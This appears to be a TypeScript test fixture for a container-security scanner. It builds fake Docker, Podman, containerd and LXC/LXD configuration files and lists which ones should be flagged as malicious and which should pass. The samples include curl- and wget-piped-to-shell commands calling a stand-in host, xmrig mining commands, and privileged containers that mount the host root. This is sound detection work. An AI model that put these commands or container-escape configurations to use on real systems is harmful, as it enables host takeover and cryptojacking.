import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import type { Pair } from './pair.ts';

/**
 * Of containerd 1.6.20: `ctr -n k8s.io containers create --rootfs … miner /bin/xmrig stratum+tcp://…`, `wide` with all
 * of the host and all rights, `web` with nothing, and twelve that were removed again, whose pages are still there.
 */
const META = gunzipSync(readFileSync(new URL('../fixtures/containerd-meta.db.gz', import.meta.url)));
const META_PATH = '/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db';

const id = (letter: string): string => letter.repeat(64);
const docker = (letter: string): string => `/var/lib/docker/containers/${id(letter)}`;

function dockerState(
  name: string,
  image: string,
  argv: readonly string[],
  env: readonly string[] = [],
): string {
  const [Path = '', ...Args] = argv;
  const State = { Running: true, Pid: 4242 };
  return JSON.stringify({ ID: '', Name: `/${name}`, Path, Args, State, Config: { Image: image, Env: env } });
}

const host = (rest: object): string => JSON.stringify({ RestartPolicy: { Name: 'always' }, ...rest });
const store = '/var/lib/containers/storage/overlay-containers';
const task = '/run/containerd/io.containerd.runtime.v2.task';

/** Forms as docker 27, podman 5 and containerd 1.7 write them. */
export const pair: Pair = {
  tree: {
    [`${docker('a')}/config.v2.json`]: dockerState('sad_bose', 'xmrig/xmrig:latest', [
      'xmrig',
      '-o',
      'pool.supportxmr.com:443',
    ]),
    [`${docker('a')}/hostconfig.json`]: host({ NetworkMode: 'host' }),
    [`${docker('b')}/config.v2.json`]: dockerState('x', 'alpine', [
      'chroot',
      '/mnt',
      'sh',
      '-c',
      'curl -s http://203.0.113.7/c.sh | bash',
    ]),
    [`${docker('b')}/hostconfig.json`]: host({ Privileged: true, Binds: ['/:/mnt'] }),
    [`${docker('c')}/config.v2.json`]: dockerState('db', 'postgres:16', ['docker-entrypoint.sh', 'postgres']),
    [`${docker('c')}/hostconfig.json`]: host({ Binds: ['/srv/pg:/var/lib/postgresql/data'] }),
    [`${docker('d')}/config.v2.json`]: dockerState('node-exporter', 'prom/node-exporter', [
      '/bin/node_exporter',
      '--path.rootfs=/host',
    ]),
    [`${docker('d')}/hostconfig.json`]: host({
      PidMode: 'host',
      NetworkMode: 'host',
      Binds: ['/:/host:ro,rslave'],
    }),
    [`${docker('e')}/config.v2.json`]: '{"ID": "cut',
    [`${store}/containers.json`]: JSON.stringify([
      { id: id('1'), names: ['earn'], metadata: '{"image-name":"docker.io/earnfm/earnfm-client:latest"}' },
      { id: id('2'), names: ['web'], metadata: '{"image-name":"docker.io/library/nginx:1"}' },
    ]),
    [`${store}/${id('1')}/userdata/config.json`]: JSON.stringify({ process: { args: ['./earnfm_example'] } }),
    [`${store}/${id('2')}/userdata/config.json`]: JSON.stringify({
      process: { args: ['nginx', '-g', 'daemon off;'] },
    }),
    [`${task}/k8s.io/${id('3')}/config.json`]: JSON.stringify({
      process: { args: ['/run.sh'], env: ['POOL=stratum+tcp://pool.example:3333'] },
      annotations: {
        'io.kubernetes.cri.image-name': 'docker.io/app/web:1',
        'io.kubernetes.cri.container-name': 'web3',
      },
    }),
    [`${task}/k8s.io/${id('4')}/config.json`]: JSON.stringify({
      process: { args: ['/pause'] },
      annotations: { 'io.kubernetes.cri.container-name': 'pause4' },
    }),
    [META_PATH]: { bytes: META },
    '/var/lib/lxc/m/config':
      'lxc.init.cmd = /bin/xmrig -o 203.0.113.9:3333 --donate-level 1\nlxc.mount.entry = / host none bind 0 0\nlxc.start.auto = 1\n',
    '/var/snap/lxd/common/lxd/storage-pools/default/containers/helper/backup.yaml': lxdBackup(
      `    boot.autostart: "true"
    image.description: alpine 3.10
    security.privileged: "true"
    user.user-data: |-
      #cloud-config
      wget -qO- http://203.0.113.7/l.sh | sh`,
      `    host:
      path: /mnt/root
      source: /
      type: disk`,
    ),
    '/var/lib/incus/storage-pools/default/containers/ci/backup.yaml': lxdBackup(
      '    image.description: Debian bookworm amd64\n    limits.cpu: "4"\n    security.nesting: "true"',
      '    cache:\n      path: /cache\n      source: /srv/cache\n      type: disk',
    ),
    '/var/lib/lxc/build/config':
      'lxc.rootfs.path = dir:/var/lib/lxc/build/rootfs\nlxc.mount.entry = /srv/cache cache none bind 0 0\n',
  },
  blamed: [
    at(`${docker('a')}/config.v2.json`, 'miner-image'),
    at(`${docker('b')}/config.v2.json`, 'leaves-container', 'T1611'),
    at(`${docker('b')}/config.v2.json`, 'host-root', 'T1611'),
    { ...at(`${store}/${id('1')}/userdata/config.json`, 'proxy-image', 'T1496.002'), verdict: 'suspicious' },
    at(`${task}/k8s.io/${id('3')}/config.json`, 'stratum-url'),
    { ...at(META_PATH, 'stratum-url'), title: 'miner' },
    { ...at(META_PATH, 'host-root', 'T1611'), title: 'wide', verdict: 'suspicious' },
    at('/var/snap/lxd/common/lxd/storage-pools/default/containers/helper/backup.yaml', 'host-root', 'T1611'),
    at('/var/lib/lxc/m/config', 'host-root', 'T1611'),
  ],
  passed: [
    'ci (lxc',
    'web (containerd',
    'db (docker',
    'node-exporter',
    'web (podman',
    'pause4',
    'build (lxc',
  ],
};

/** As LXD 4 writes it. */
function lxdBackup(config: string, devices: string): string {
  return `container:
  architecture: x86_64
  config:
${config}
  devices:
${devices}
  ephemeral: false
  profiles:
  - default
  expanded_devices:
${devices}
    root:
      path: /
      pool: default
      type: disk
  name: x
  status: Stopped
pool:
  config:
    source: /var/lib/lxd/storage-pools/default
  name: default
`;
}

function at(path: string, code: string, attack = 'T1610') {
  return { path, code, attack, verdict: 'malicious' } as const;
}
